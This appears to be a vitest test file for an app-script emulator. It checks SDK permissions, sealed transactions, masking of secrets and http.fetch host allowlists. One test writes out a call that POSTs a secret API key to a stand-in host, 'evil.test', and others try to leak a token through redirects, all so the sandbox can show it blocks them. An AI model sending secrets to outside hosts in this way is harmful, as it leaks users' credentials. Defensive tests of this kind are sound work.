import type { RequestListener } from 'node:http'
import { createEmulator } from 'sandbank'
import { afterAll, beforeEach, describe, expect, it } from 'vitest'
import { GLOBALS } from '../../src/domains/apps/sdk/methods'
import { caller } from '../helpers/caller'
import { type LocalServer, serveLocally } from '../helpers/local-server'
import { deploy, visitor } from './app-files'

const emulator = createEmulator()
const call = caller(emulator)
beforeEach(() => emulator.reset())
const servers: LocalServer[] = []
afterAll(async () => {
  for (const server of servers) await server.close()
})
afterAll(() => emulator.close())

const ALL = [
  'read:wallet',
  'read:portfolio',
  'read:appdata',
  'write:appdata',
  'read:files',
  'write:files',
  'read:chain',
  'prepare:transaction',
  'fetch:http',
  'read:secrets',
  'invoke:agent',
]

/** Every call of the backend SDK, and the permission that lets it be made. */
const CALLS: [source: string, permission: string][] = [
  ['bankr.wallet.me()', 'read:wallet'],
  ['bankr.wallet.balances()', 'read:portfolio'],
  ['bankr.files.read("/a")', 'read:files'],
  ['bankr.files.list()', 'read:files'],
  ['bankr.files.search("a")', 'read:files'],
  ['bankr.files.write("/a.txt", "a")', 'write:files'],
  ['bankr.chain.readContract({})', 'read:chain'],
  ['bankr.chain.multicall({})', 'read:chain'],
  ['bankr.chain.getBalance({})', 'read:chain'],
  ['bankr.chain.getLogs({})', 'read:chain'],
  ['bankr.chain.encodeFunctionData({})', 'read:chain'],
  ['bankr.chain.getTransactionReceipt({})', 'read:chain'],
  ['bankr.chain.getTransaction({})', 'read:chain'],
  ['bankr.chain.getBlock({})', 'read:chain'],
  ['bankr.chain.getBlockNumber({})', 'read:chain'],
  ['bankr.chain.getGasPrice({})', 'read:chain'],
  ['bankr.chain.getCode({})', 'read:chain'],
  ['bankr.chain.getStorageAt({})', 'read:chain'],
  ['bankr.chain.getTransactionCount({})', 'read:chain'],
  ['bankr.chain.estimateGas({})', 'read:chain'],
  ['bankr.tx.prepare({})', 'prepare:transaction'],
  ['http.fetch("https://api.test")', 'fetch:http'],
  ['secrets.get("A")', 'read:secrets'],
  ['secrets.status()', 'read:secrets'],
  ['appKV.get("a")', 'read:appdata'],
  ['appKV.list()', 'read:appdata'],
  ['appKV.set("a", 1)', 'write:appdata'],
  ['appKV.delete("a")', 'write:appdata'],
  ['bankr.askAgent("a")', 'invoke:agent'],
  ['askAgent("a")', 'invoke:agent'],
]

/** Deploys an app of one script and runs it. */
async function script(
  source: string,
  { args, ...manifest }: { args?: unknown; [field: string]: unknown } = {},
) {
  await deploy(emulator, { manifest: { permissions: ALL, ...manifest }, scripts: { main: source } })
  return (await call('POST', '/apps/harbor/scripts/main/run', { args })).body
}
/** What it came to, where it was to fail. */
async function failure(source: string, manifest?: object) {
  const { success, run } = await script(source, { ...manifest })
  expect(success).toBe(false)
  return run.error
}

describe('POST /apps/:slug/scripts/:name/run', () => {
  it('[app-scripts] runs TypeScript statements that end in return, with args and ctx, and keeps the run', async () => {
    const body = await script(
      `const twice: number = args.n * 2
log('twice', twice)
return { twice, ctx, frozen: Object.isFrozen(ctx.caller) && Object.isFrozen(args.list) }`,
      { args: { n: 21, list: [1] } },
    )
    const { owner } = (await call('GET', '/apps/harbor')).body
    expect(body.success).toBe(true)
    expect(body.result).toEqual({
      twice: 42,
      frozen: true,
      ctx: {
        caller: owner,
        author: owner,
        appId: `${owner.walletId}/harbor`,
        slug: 'harbor',
        permissions: ALL,
      },
    })
    const { runs } = (await call('GET', '/apps/harbor/runs')).body
    expect(runs).toEqual([body.run])
    expect(body.run).toMatchObject({
      n: 1,
      script: 'main',
      trigger: 'call',
      caller: owner.walletId,
      status: 'passed',
      error: null,
      logs: [{ level: 'log', text: 'twice 42', file: 'scripts/main.ts', line: 2 }],
    })
  })

  it('[app-scripts] a request that is sent again waits for the run of the first', async () => {
    const source = 'for (let n = 0; n < 40; n++) await appKV.set("n", n)\nreturn await appKV.get("n")'
    await script('return 0')
    await deploy(emulator, { manifest: { permissions: ALL }, scripts: { main: source } })
    const sent = async () => {
      const response = await emulator.fetch('/apps/harbor/scripts/main/run', {
        method: 'POST',
        headers: {
          'X-API-Key': emulator.keys.full,
          'Content-Type': 'application/json',
          'X-Sandbank-Request-Id': 'the same',
        },
        body: '{}',
      })
      return response.json()
    }
    const first = sent()
    await expect.poll(async () => (await call('GET', '/apps/harbor/kv/n')).body.exists).toBe(true)
    const all = await Promise.all([first, sent(), sent()])
    expect(all.map(({ success, result, run }) => [success, result, run.id])).toEqual(
      all.map(() => [true, 39, all[0].run.id]),
    )
  })

  it('[app-scripts] one that throws is a run that failed, with its own line', async () => {
    const error = await failure('const a = 1\n\nthrow new Error("storm")')
    expect(error).toMatchObject({ message: 'Error: storm', why: 'thrown', file: 'scripts/main.ts', line: 3 })
    const [run] = (await call('GET', '/apps/harbor/runs')).body.runs
    expect(run).toMatchObject({ status: 'failed', result: null, error })
  })

  it('[app-scripts] knows no modules, and no network of its own', async () => {
    expect((await failure('import a from "a"\nreturn a')).why).toBe('compile')
    expect((await failure('return require("fs")')).message).toContain('require')
    expect((await failure('return await fetch("https://api.test")')).message).toContain('fetch')
  })

  it('[app-scripts] ends at its limits, and says which and what to do instead', async () => {
    const large = await failure('return "x".repeat(300_000)')
    expect(large).toMatchObject({ why: 'result', message: expect.stringContaining('appKV.set') })
    const refused = await call('POST', '/apps/harbor/scripts/main/run', { args: 'x'.repeat(300_000) })
    expect(refused.status).toBe(413)
    expect(refused.body.message).toBe(
      'args: have 300002 bytes as JSON, and may have 262144. Keep more with appKV.set, and send its key. Nothing was run. (Rule apps.args.)',
    )
  })

  it('[app-scripts] is only what the manifest lists', async () => {
    await script('return 1')
    const { status, body } = await call('POST', '/apps/harbor/scripts/other/run', {})
    expect(status).toBe(404)
    expect(body.message).toContain('its manifest lists main')
  })

  it.each(CALLS)(
    '[app-sdk-backend] %s without %s is refused with the line to add',
    async (source, permission) => {
      const others = ALL.filter((each) => each !== permission)
      const { message } = await failure(`return await ${source}`, { permissions: others })
      expect(message).toContain(`needs the permission ${permission}, which this app does not declare.`)
      expect(message).toContain(`"permissions": ${JSON.stringify([...others, permission])}`)
      expect(message).toContain('/apps/harbor/manifest.json')
    },
  )

  it('[app-sdk-backend] has no call that is missing in the table above', () => {
    const called = CALLS.map(([source]) => source.slice(0, source.indexOf('(')))
    const methods = GLOBALS.filter((name) => !name.startsWith('sandbank.'))
    expect(called.toSorted()).toEqual(methods.toSorted())
  })

  it('[app-sdk-backend] wallet.me, and balances in both shapes', async () => {
    const { result } = await script(
      'return { me: await bankr.wallet.me(), held: await sandbank.wallet.balances({ chains: "base", include: { nfts: true } }) }',
    )
    const { owner } = (await call('GET', '/apps/harbor')).body
    expect(result.me).toEqual({
      address: owner.walletAddress,
      evmAddress: owner.walletAddress,
      walletId: owner.walletId,
    })
    const listed = result.held.balances.base.tokenBalances[0].token
    expect(result.held.tokens[0]).toMatchObject({
      chain: 'base',
      symbol: listed.baseToken.symbol,
      address: listed.baseToken.address,
      balance: listed.balance,
    })
    expect(result.held.nfts).toBeInstanceOf(Array)
  })

  it('[app-sdk-backend] files', async () => {
    const { result } = await script(`await bankr.files.write('/notes/a.txt', 'a whale')
await bankr.files.write('/notes/b.json', { b: 1 })
return {
  text: await bankr.files.read('/notes/a.txt'),
  json: await bankr.files.read('/notes/b.json'),
  listed: await bankr.files.list('/notes'),
  found: await bankr.files.search('WHALE', '/notes'),
}`)
    expect(result).toMatchObject({
      text: 'a whale',
      json: '{"b":1}',
      listed: [{ kind: 'file', name: 'a.txt', path: '/notes/a.txt', size: 7 }, { path: '/notes/b.json' }],
      found: [{ path: '/notes/a.txt', match: 'content' }],
    })
  })

  it('[app-sdk-backend] reads a local chain', async () => {
    const { result, run } =
      await script(`const abi = ['function balanceOf(address) view returns (uint256)', 'function symbol() view returns (string)']
const { tokens, balances } = await bankr.wallet.balances({ chains: 'base' })
const usdc = tokens.find(({ symbol }) => symbol === 'USDC')
const me = (await bankr.wallet.me()).address
const call = { address: usdc.address, abi }
return {
  held: usdc.balance,
  units: await bankr.chain.readContract({ chain: 'base', ...call, functionName: 'balanceOf', args: [me] }),
  many: await bankr.chain.multicall({ contracts: [{ ...call, functionName: 'symbol' }, { ...call, address: me, functionName: 'symbol' }] }),
  ether: [balances.base.nativeBalance, await bankr.chain.getBalance({ chain: 8453, address: me })],
  logs: (await bankr.chain.getLogs({ chain: 'base', address: usdc.address, event: 'event Transfer(address indexed from, address indexed to, uint256 value)' })).length,
  data: await bankr.chain.encodeFunctionData({ abi, functionName: 'balanceOf', args: [me] }),
}`)
    expect(run.error).toBeNull()
    expect(BigInt(result.units)).toBe(BigInt(Math.round(Number(result.held) * 1e6)))
    expect(result.many[0]).toEqual({ status: 'success', result: 'USDC' })
    expect(result.many[1]).toEqual({
      status: 'failure',
      error: expect.stringMatching(
        /^there is no contract at 0x[0-9a-fA-F]{40} on Base, which is emulated; a fork has what the public chain has there: PUT \/__sandbank\/chains\/8453\/mode/,
      ),
    })
    expect(BigInt(result.ether[1])).toBe(BigInt(Math.round(Number(result.ether[0]) * 1e9)) * 10n ** 9n)
    expect(result.logs).toBeGreaterThanOrEqual(0)
    expect(result.data).toMatch(/^0x70a08231[0-9a-f]{64}$/)
  })

  it('names a contract that is not there, and how to fork', async () => {
    const { run } = await script(
      `return await bankr.chain.readContract({ chain: 'base', address: '0x00000000000000000000000000000000000000ee', abi: ['function get() view returns (uint256)'], functionName: 'get' })`,
    )
    expect(JSON.stringify(run.error)).toContain(
      'there is no contract at 0x00000000000000000000000000000000000000ee on Base, which is emulated; a fork has',
    )
  })

  it('[app-tx] prepares a transaction that nobody can alter unnoticed, and sends nothing', async () => {
    const to = '0x00000000000000000000000000000000000000ee'
    const { result: blob } = await script(
      `return await bankr.tx.prepare({ chain: 'base', to: '${to}', data: '0x1234', value: '5', label: 'Pay the pilot' })`,
    )
    const check = (sent: object) => call('POST', '/apps/harbor/transactions/check', { blob: sent })
    const { seal, ...transaction } = blob
    expect(transaction).toMatchObject({ chain: 'base', chainId: 8453, to, data: '0x1234', value: '5' })
    expect((await check(blob)).body).toEqual({ transaction })
    for (const [field, value] of Object.entries({
      to: `0x${'1'.repeat(40)}`,
      value: '6',
      label: 'Other',
      walletId: 'wlt_x',
    })) {
      const refused = await check({ ...blob, [field]: value })
      expect([refused.status, refused.body.message]).toEqual([
        400,
        `blob.${field}: is not what the script prepared. Nothing was sent. (Rule apps.prepared.)`,
      ])
    }
    const forged = await check({ ...blob, seal: `${seal.slice(0, -8)}AAAAAAA=` })
    expect([forged.status, forged.body.message.slice(0, 5)]).toEqual([400, 'blob:'])
    await deploy(emulator, { slug: 'haven', scripts: {} })
    expect((await call('POST', '/apps/haven/transactions/check', { blob })).status).toBe(400)
  })

  it('[app-sdk-backend] an argument that is wrong is named', async () => {
    const { message } = await failure('return await bankr.chain.getBalance({ address: "0x1" })')
    expect(message).toBe(
      'Error: chain.getBalance: options.address: must be an EVM address: 0x and 40 hex digits, all in one case or mixed as its checksum (EIP-55) has them. (Rule apps.argument.)',
    )
  })
})

describe('a script of another wallet', () => {
  it.each(['owner', 'viewer'])('[app-identity] acts as the %s', async (frontendIdentity) => {
    await script(
      'return { acts: (await bankr.wallet.me()).walletId, caller: ctx.caller.walletId, author: ctx.author.walletId }',
      {
        frontendIdentity,
      },
    )
    const { owner } = (await call('GET', '/apps/harbor')).body
    const { walletId, session } = await visitor(emulator)
    const visit = () =>
      emulator.fetch(
        new Request(`http://sandbank.test/apps/${owner.walletAddress}/harbor/scripts/main/run`, {
          method: 'POST',
          headers: { Authorization: `Bearer ${session}`, 'Content-Type': 'application/json' },
          body: '{}',
        }),
      )
    expect((await visit()).status).toBe(404)
    await call('PATCH', '/apps/harbor', { visibility: 'public' })
    const { result } = await (await visit()).json()
    expect(result).toEqual({
      acts: frontendIdentity === 'viewer' ? walletId : owner.walletId,
      caller: walletId,
      author: owner.walletId,
    })
  })
})

describe('secrets of an app', () => {
  const VALUE = `it's "a" \${secret}\nof mine`

  it('[app-secrets] are read where they are declared, and are in nothing that is kept or answered', async () => {
    await call('POST', '/agent/env', { vars: { API_KEY: VALUE, OTHER: 'another secret' } })
    const manifest = { secrets: [{ key: 'API_KEY', required: true, allowedHosts: ['api.test'] }, 'UNSET'] }
    const { result, run } = await script(
      `const value = await secrets.get('API_KEY')
log(value)
return { length: value.length, value, unset: await secrets.get('UNSET'), status: await secrets.status() }`,
      manifest,
    )
    expect(result).toEqual({
      length: VALUE.length,
      value: '{{API_KEY}}',
      unset: null,
      status: [
        { key: 'API_KEY', required: true, set: true, allowedHosts: ['api.test'] },
        { key: 'UNSET', required: false, set: false, allowedHosts: [] },
      ],
    })
    expect(run.logs[0].text).toBe('{{API_KEY}}')
    expect((await failure("return await secrets.get('OTHER')", manifest)).message).toContain(
      'is not declared',
    )
    const elsewhere =
      "await http.fetch('https://evil.test', { body: { k: await secrets.get('API_KEY') }, method: 'POST' })"
    expect(
      (
        await failure(
          elsewhere.replace("{ k: await secrets.get('API_KEY') }", "await secrets.get('API_KEY')"),
          manifest,
        )
      ).message,
    ).toContain('the secret API_KEY may go to api.test only, not to evil.test')
  })

  it('[app-secrets] are hidden in keys, in what encodes them, and in errors, from 4 characters on', async () => {
    await call('POST', '/agent/env', { vars: { API_KEY: VALUE, PIN: '4711' } })
    const source = `const value = await secrets.get('API_KEY')
const pin = await secrets.get('PIN')
const encoded = [JSON.stringify(JSON.stringify(value)), encodeURIComponent(value), "{{API_KEY}}"]
log(encoded)
if (args) throw new Error(encoded.join(' ') + pin)
return { [value]: 1, ['{{' + 'API_KEY}}']: 2, pin, number: Number(pin), deep: [{ [pin]: value }], encoded }`
    const { result, run } = await script(source, { secrets: ['API_KEY', 'PIN'] })
    expect(result).toEqual({
      '{{API_KEY}} 2': 1,
      '{{API_KEY}}': 2,
      pin: '{{PIN}}',
      number: '{{PIN}}',
      deep: [{ '{{PIN}}': '{{API_KEY}}' }],
      encoded: ['"\\"{{API_KEY}}\\""', '{{API_KEY}}', '{{API_KEY}}'],
    })
    const { run: failed } = await script(source, { secrets: ['API_KEY', 'PIN'], args: 1 })
    expect(failed.error.message).toContain('{{API_KEY}} {{API_KEY}}{{PIN}}')
    const stored = [run, failed, ...['journal?limit=1000', 'export'].map((name) => `/__sandbank/${name}`)]
    for (const each of stored) {
      const text = JSON.stringify(typeof each === 'string' ? (await call('GET', each)).body : each)
      expect(text).not.toContain(JSON.stringify(VALUE).slice(1, -1))
      expect(text).not.toContain(encodeURIComponent(VALUE))
      expect(text).not.toContain("it\\'s")
    }
  })

  it('[env-substitution] {{NAME}} in a script is the value, whatever quotes it stands in', async () => {
    await call('POST', '/agent/env', { key: 'API_KEY', value: VALUE })
    const { result } = await script(
      'const all = ["{{API_KEY}}", \'{{API_KEY}}\', `{{ API_KEY }}`]\nreturn [all.map((each) => each.length), new Set(all).size]',
    )
    expect(result).toEqual([[VALUE.length, VALUE.length, VALUE.length], 1])
    const error = await failure('return "{{MISSING}}"')
    expect(error).toMatchObject({ why: 'refused', message: expect.stringContaining('POST /agent/env') })
  })
})

describe('http.fetch', () => {
  const fixtures = (...list: object[]) => call('PUT', '/__sandbank/http/fixtures', { fixtures: list })

  it('[app-sdk-backend] answers from fixtures with the parsed body', async () => {
    const list = [
      { url: 'https://api.test/tides', body: { high: 3 } },
      { method: 'POST', url: 'https://api.test/*', status: 201, body: 'made' },
      { url: 'https://api.test/*', status: 404, body: { error: 'none' } },
    ]
    await fixtures(...list)
    expect((await call('GET', '/__sandbank/http/fixtures')).body).toEqual({ fixtures: list })
    const { result } = await script(
      `return [await http.fetch('https://api.test/tides'), await http.fetch('https://api.test/x', { method: 'post', body: { a: 1 } })]`,
    )
    expect(result).toEqual([{ high: 3 }, 'made'])
    const { message } = await failure("return await http.fetch('https://api.test/gone')")
    expect(message).toBe('Error: GET https://api.test answered 404: {"error":"none"}')
  })

  it('[app-secrets] takes no secret where a redirect leads, but to the hosts that it names', async () => {
    const received: string[] = []
    const listen = async (answer: RequestListener) => {
      const server = await serveLocally(answer)
      servers.push(server)
      return server.port
    }
    const far = await listen((request, response) => {
      received.push(`${request.method} ${request.url} ${request.headers['x-token'] ?? 'nothing'}`)
      response.end('"far"')
    })
    const near = await listen((request, response) => {
      const [path = '', query = ''] = (request.url ?? '').split('?')
      const [status, host] = path.split('/').slice(1)
      const to = `http://${host}:${far}/${query}`
      response.writeHead(Number(status), { Location: to }).end()
    })
    await call('PUT', '/__sandbank/settings', { allowedHosts: ['localhost', '127.0.0.1'] })
    await call('POST', '/agent/env', { key: 'TOKEN', value: 'a b&c/d' })
    const manifest = { secrets: [{ key: 'TOKEN', allowedHosts: [`LOCALHOST:${near}`, '127.0.0.1'] }] }
    const fetched = (
      status: number,
      host: string,
      init: string,
      query = '',
    ) => `const token = await secrets.get('TOKEN')
return await http.fetch('http://localhost:${near}/${status}/${host}${query}, ${init})`
    const header = "{ headers: { 'X-Token': token } }"
    const refusal = `the secret TOKEN may go to LOCALHOST:${near}, 127.0.0.1 only, not to localhost:${far}`
    for (const [status, init, query] of [
      [302, header, "'"],
      [307, "{ method: 'POST', body: { token } }", "'"],
      [308, "{ method: 'POST', headers: { 'Content-Type': 'x' }, body: encodeURIComponent(token) }", "'"],
      [302, '{}', "?' + new URLSearchParams({ token })"],
    ] as const) {
      const { message } = await failure(fetched(status, 'localhost', init, query), manifest)
      expect(message).toContain(refusal)
    }
    expect(received).toEqual([])
    expect((await script(fetched(302, '127.0.0.1', header, "'"), manifest)).result).toBe('far')
    expect((await script(fetched(302, 'localhost', '{}', "'"), manifest)).result).toBe('far')
    expect(received).toEqual(['GET / a b&c/d', 'GET / nothing'])
  })

  it('[app-secrets] a host may be named with the port that goes without saying', async () => {
    await call('POST', '/agent/env', { key: 'TOKEN', value: 'a secret value' })
    await fixtures({ url: '*', body: 'sent' })
    const secrets = [{ key: 'TOKEN', allowedHosts: ['API.test:443', 'plain.test:80'] }]
    const send = (url: string) => `return await http.fetch('${url}/' + (await secrets.get('TOKEN')))`
    for (const url of ['https://api.test', 'https://api.test:443', 'http://plain.test']) {
      expect((await script(send(url), { secrets })).result).toBe('sent')
    }
    for (const url of ['http://api.test', 'https://api.test:8443', 'https://plain.test']) {
      expect((await failure(send(url), { secrets })).message).toContain('the secret TOKEN may go to')
    }
  })

  it.each([
    [`{ headers: { 'X-A': 'b\\r\\nX-C: d' } }`, 'init.headers.X-A: must have no line break'],
    [`{ headers: { 'X A': 'b' } }`, 'init.headers.X A: is no name of a header'],
    [`{ headers: { '': 'b' } }`, 'init.headers.: is no name of a header'],
    [`{ headers: { 'X-A': 'Größe 🔑' } }`, 'init.headers.X-A: must have characters up to U+00FF only'],
    [`{ method: 'TRACE' }`, 'init.method: must not be TRACE'],
    [`{ body: 'b' }`, 'init.body: must not be sent with GET'],
  ])('[app-sdk-backend] names what cannot be sent: %s', async (init, message) => {
    const error = await failure(`return await http.fetch('https://api.test', ${init})`)
    expect(error.message).toContain(`http.fetch: ${message}`)
  })

  it('[app-sdk-backend] goes to no address of this machine', async () => {
    const { message } = await failure("return await http.fetch('http://127.0.0.1:1/')")
    expect(message).toContain('which code in the emulator may not call')
  })

  it('[app-sdk-backend] says how to go on where the network cannot be reached', async () => {
    // A name that no server has, on any network.
    const error = await failure('return await http.fetch("https://api.invalid/tides")')
    expect(error).toMatchObject({ why: 'thrown', line: 1 })
    expect(error.message).toMatch(
      /^Error: https:\/\/api\.invalid cannot be reached from here \(.+\): there is no network, or in a browser, the server does not allow pages of this origin \(CORS\)\. Add a fixture that answers in its place: PUT \/__sandbank\/http\/fixtures \{"fixtures": \[\{"url": "https:\/\/api\.invalid\/tides", "body": \{\}\}\]\}, or run Sandbank on Node/,
    )
  })
})
